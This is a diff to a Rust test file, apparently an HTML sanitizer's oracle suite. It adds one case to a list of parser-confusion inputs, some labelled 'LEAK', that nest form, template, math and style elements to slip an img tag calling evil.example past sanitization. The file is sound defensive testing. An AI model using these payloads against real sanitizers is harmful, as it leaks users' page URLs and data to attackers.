@@ -741,6 +741,8 @@ fn hard_cases_match_the_oracle() {
             "<p><b></p><table><td><svg></b><xmp><img src=//evil.example/i referrerpolicy=unsafe-url>"),
         ("LEAK: </form> generates implied end tags: the <li> in the form closes with it, so </li> from math closes nothing and <style> is MathML's",
             "<form><li></form><math></li><style><img src=//evil.example/i referrerpolicy=unsafe-url>"),
+        ("LEAK: in template contents a <form> in a table insertion mode is dropped, also after an element foster-parented out of the table: </form> from math closes nothing (a declarative shadow root makes it live)",
+            "<div><template shadowrootmode=open><table><mi><form><math></form><style><img src=//evil.example/i referrerpolicy=unsafe-url>"),
         ("an svg/math form with the id comes first in tree order: the HTML form in a table with the same id ties no input",
             "<math><style><a href=/in-style></style><form id=f1><table><form id=f1 action=/x>"),
     ];
